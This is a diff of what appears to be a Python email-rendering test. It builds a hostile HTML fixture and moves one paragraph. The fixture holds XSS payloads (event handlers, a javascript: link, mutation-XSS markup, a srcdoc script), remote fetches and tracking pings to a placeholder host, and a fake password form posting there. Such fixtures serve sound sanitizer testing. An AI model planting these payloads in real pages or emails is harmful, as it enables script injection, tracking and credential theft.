@@ -23,13 +23,14 @@ HTML = f"""<html><head><base href="//{HOST}/"><meta http-equiv="refresh" content
 <style>@import "//{HOST}/i.css"; body {{background:url(//{HOST}/b)}}</style>
 <script>parent.pwned=1;fetch("//{HOST}/j")</script></head>
 <body onload="parent.pwned=2" style="background-image:url(//{HOST}/d);position:fixed;inset:0">
+<p>The words that matter.</p>
 <img src="http://{HOST}/x.png" srcset="//{HOST}/y.png 2x" onerror="parent.pwned=3"><svg onload="parent.pwned=4"></svg>
 {CANARY}</svg>
 <iframe src="//{HOST}/f" srcdoc="<script>parent.pwned=5</script>"></iframe><object data="//{HOST}/o"></object>
 <form action="//{HOST}/p"><input name="password" autofocus onfocus="parent.pwned=6"><button>Sign in</button></form>
 <video src="//{HOST}/v" autoplay></video><math><mtext><table><mglyph><style><img src=x onerror=parent.pwned=7>
 <a href="javascript:parent.pwned=8">click</a><a href="//{HOST}/a" ping="//{HOST}/g">juniper.example</a>
-<p>The words that matter.</p></body></html>"""
+</body></html>"""
 
 
 def hostile(ada: Customer, shop: Shop) -> EmailMessage:
